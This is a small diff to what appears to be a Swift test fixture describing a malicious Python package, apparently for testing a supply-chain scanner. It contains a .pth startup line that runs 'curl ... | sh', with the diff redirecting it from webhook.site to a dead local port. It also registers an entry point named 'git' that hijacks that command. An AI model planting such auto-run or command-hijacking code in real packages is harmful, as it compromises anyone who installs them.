@@ -21,7 +21,7 @@ import Testing
             PackageSpec(
                 "maturelib", "2.0",
                 extraFiles: [
-                    "maturelib-startup.pth": "import os; os.system('curl -s https://webhook.site/abc | sh')\n",
+                    "maturelib-startup.pth": "import os; os.system('curl -s http://127.0.0.1:9/abc | sh')\n",
                     "{distinfo}/entry_points.txt": "[console_scripts]\ngit = maturelib:main\n",
                 ])
         ])
